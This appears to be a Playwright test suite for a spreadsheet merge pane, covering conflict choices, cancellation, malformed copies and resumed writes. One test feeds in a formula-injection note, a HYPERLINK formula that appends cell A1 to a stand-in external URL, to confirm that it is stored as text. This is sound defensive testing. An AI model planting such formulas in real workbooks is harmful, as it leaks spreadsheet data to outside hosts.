import type { Page } from 'playwright-core';
import { describe, expect, it } from 'vitest';
import type { TableData } from '../../../src/workbook/port.ts';
import { tabTo } from '../access-checks.ts';
import { column, focused, heading, tables, usePane } from '../pane-steps.ts';
import { rowsOf, withRows } from '../small-workshop.ts';
import {
  chooseCopy,
  giveCopy,
  holdReading,
  isReadingStopped,
  otherCopy,
  release,
  takeTheOthers,
  toMerge,
} from './merge-walk.ts';
import { soundWorkshop } from './sound-workshop.ts';

const openPane = usePane();

async function openMerge(start: readonly TableData[] = soundWorkshop): Promise<Page> {
  const page = await openPane(start);
  await toMerge(page);
  return page;
}

const preview = (page: Page) => page.locator('pour-merge-preview');

describe('bringing another copy in', () => {
  it('shows what is added and what differs, then writes all of it once', async () => {
    const page = await openMerge();
    await chooseCopy(page, otherCopy);
    await preview(page).getByRole('row', { name: 'Lots L-9 1' }).waitFor();
    await preview(page).getByRole('row', { name: 'LedgerLines W-1, W-2 2' }).waitFor();
    await preview(page).getByRole('row', { name: 'Pack price 9 8' }).waitFor();
    await preview(page).getByText('The recipe of Pearl differs in the two copies').waitFor();
    expect(await tables(page)).toEqual(soundWorkshop);
    await takeTheOthers(page);
    await page.locator('#record').click();
    await heading(page).getByText('Brought in').waitFor();
    expect(await column(page, 'LedgerLines', 'Entry')).toEqual(['W-1', 'W-2']);
    expect((await column(page, 'Materials', 'Pack price'))[0]).toBe(8);
    expect(await page.evaluate(() => window.pane.port.written.length)).toBe(1);
    await page.locator('#another').click();
    await chooseCopy(page, otherCopy);
    // The recipe of Pearl still differs.
    await preview(page).getByText('There is nothing to bring in;').waitFor();
    expect(await page.locator('#record').count()).toBe(0);
  });

  it('says what keeping each side means, chooses neither, and waits until one is chosen', async () => {
    const page = await openMerge();
    await chooseCopy(page, otherCopy);
    const radios = preview(page).getByRole('radio');
    const areChecked = () =>
      radios.evaluateAll((all) => all.map((radio) => (radio as HTMLInputElement).checked));
    expect(await areChecked()).toEqual([false, false]);
    expect(await page.locator('#record').count()).toBe(0);
    await preview(page)
      .getByText('Choose which to keep of Clear base in Materials. Nothing is written before.')
      .waitFor();
    await preview(page)
      .getByLabel(
        'Keep this book’s: Pack price 9. Nothing changes here; the other’s stays in its own file only.',
      )
      .check();
    expect(await areChecked()).toEqual([true, false]);
    expect(await preview(page).getByText('Choose which to keep').count()).toBe(0);
    await page
      .getByLabel(
        'Take the other’s: Pack price 8. It is written over this book’s, and costs, orders and labels go by it from then on.',
      )
      .check();
    expect(await areChecked()).toEqual([false, true]);
    await page.locator('#record').waitFor();
  });

  it('keeps this book’s where that is chosen, though the rule would take the other’s', async () => {
    const page = await openMerge(otherCopy);
    await chooseCopy(page, soundWorkshop);
    await page.getByLabel('Keep this book’s').check();
    // The workbook holds more than the copy, so nothing is left to write.
    await preview(page).getByText('There is nothing to bring in;').waitFor();
    expect(await page.locator('#record').count()).toBe(0);
  });

  it('says of a file without our tables that it is no copy', async () => {
    const page = await openMerge();
    await chooseCopy(page, [{ name: 'Other', headers: ['Song', 'Length'], rows: [['Reel', 3]] }]);
    await preview(page).getByText('it is no copy of it. Choose another file.').waitFor();
    expect(await page.locator('#record').count()).toBe(0);
  });

  it('says of a copy that has lost a table what does not come in', async () => {
    const page = await openMerge();
    await chooseCopy(
      page,
      soundWorkshop.filter(({ name }) => name !== 'Materials'),
    );
    await preview(page).getByText('There is nothing to bring in;').waitFor();
    await preview(page).getByText('The other copy has no Materials table').waitFor();
  });

  it('tells how far it is and can be stopped, which leaves nothing behind', async () => {
    const page = await openMerge();
    await holdReading(page);
    await giveCopy(page, otherCopy);
    await page.getByRole('status').getByText('Reading the file…').waitFor();
    expect(await page.getByRole('progressbar').count()).toBe(1);
    expect(await page.locator('#copy').isDisabled()).toBe(true);
    await tabTo(page, 'stop');
    await page.keyboard.press('Enter');
    await page.getByRole('status').getByText('Stopped. Nothing was brought in').waitFor();
    expect(await focused(page)).toBe('copy');
    expect(await isReadingStopped(page)).toBe(true);
    await release(page);
    // Whatever the file would still bring has had its turn once a second copy is through.
    await giveCopy(page, soundWorkshop);
    await preview(page).getByText('This workbook holds all that the other copy has.').waitFor();
    expect(await page.evaluate(() => window.pane.port.asked.length)).toBe(0);
    expect(await tables(page)).toEqual(soundWorkshop);
  });

  it('stops by itself when another tab is shown', async () => {
    const page = await openMerge();
    await holdReading(page);
    await giveCopy(page, otherCopy);
    await page.locator('#stop').waitFor();
    await page.locator('#tab-check').click();
    expect(await isReadingStopped(page)).toBe(true);
    await release(page);
    await page.locator('#tab-merge').click();
    await page.locator('pour-merge').waitFor();
    expect(await page.locator('#stop').count()).toBe(0);
  });

  it('goes by what the workbook holds once the copy is read, not before', async () => {
    const page = await openMerge();
    await holdReading(page);
    await giveCopy(page, otherCopy);
    await page.evaluate((now) => {
      window.pane.port.edit(() => now);
    }, otherCopy);
    await release(page);
    await preview(page).getByText('This workbook holds all that the other copy has.').waitFor();
  });

  it('leads to the check afterwards', async () => {
    const page = await openMerge();
    await chooseCopy(page, otherCopy);
    await takeTheOthers(page);
    await page.locator('#record').click();
    await page.locator('#check').click();
    await page.locator('pour-check').waitFor();
    await page.getByText('Looked at 2 ledger lines').waitFor();
  });

  it('brings nothing in from a copy in which two lines share an id', async () => {
    const page = await openMerge();
    await chooseCopy(
      page,
      withRows(otherCopy, 'LedgerLines', (rows) => [
        ...rows,
        ...rows.slice(0, 1).map((row) => row.with(4, -1)),
      ]),
    );
    await page.getByText('In the other copy two lines of LedgerLines share the id W-1.').waitFor();
    expect(await page.locator('#record').count()).toBe(0);
    expect(await tables(page)).toEqual(soundWorkshop);
  });

  it('writes a note that looks like a formula as the text it is', async () => {
    const page = await openMerge();
    const note = '=HYPERLINK("http://example.invalid/?"&A1,"Invoice")';
    await chooseCopy(
      page,
      withRows(otherCopy, 'LedgerLines', (rows) => rows.map((row) => row.with(9, note))),
    );
    await takeTheOthers(page);
    await page.locator('#record').click();
    await page.locator('pour-merge-done').waitFor();
    expect(await column(page, 'LedgerLines', 'Note')).toEqual([note, note]);
  });

  it('writes nothing where the two together make no book, and says why', async () => {
    const page = await openMerge();
    await chooseCopy(
      page,
      withRows(otherCopy, 'LedgerLines', () => rowsOf(['W-1|2026-11-03|wasted|Moonshine|-1|||||'])),
    );
    await preview(page).getByText("can't be read as one book").waitFor();
    await preview(page).getByText('"Moonshine"').waitFor();
    expect(await page.locator('#record').count()).toBe(0);
  });

  it('says what a file is that is no workbook, and lets another be chosen', async () => {
    const page = await openMerge();
    await page
      .locator('#copy')
      .setInputFiles({ name: 'x.xlsx', mimeType: '', buffer: Buffer.from('no') });
    await page.getByText('This is not an .xlsx workbook.').waitFor();
    await chooseCopy(page, otherCopy);
    await preview(page).getByText('From other.xlsx').waitFor();
  });

  it('finishes what broke off halfway, without the file', async () => {
    const page = await openMerge();
    await chooseCopy(page, otherCopy);
    await takeTheOthers(page);
    await page.evaluate(() => {
      window.pane.port.nextApply({ kind: 'breaks halfway', rows: 1 });
    });
    await page.locator('#record').click();
    await page.getByText('Recording of other.xlsx broke off').waitFor();
    await page.reload();
    await page.locator('#tab-merge').click();
    await page.getByText('Recording of other.xlsx broke off').waitFor();
    await page.locator('#record').click();
    await page.locator('pour-merge-done').waitFor();
    expect(await column(page, 'LedgerLines', 'Entry')).toEqual(['W-1', 'W-2']);
    expect((await column(page, 'Lots', 'Lot')).at(-1)).toBe('L-9');
  });

  it('can be done with the keyboard alone once the file is chosen', async () => {
    const page = await openMerge();
    await chooseCopy(page, otherCopy);
    await page.getByRole('radio', { name: /^Keep this book’s/u }).focus();
    await page.keyboard.press('Space');
    await tabTo(page, 'record');
    await page.keyboard.press('Enter');
    await page.locator('pour-merge-done').waitFor();
  });
});
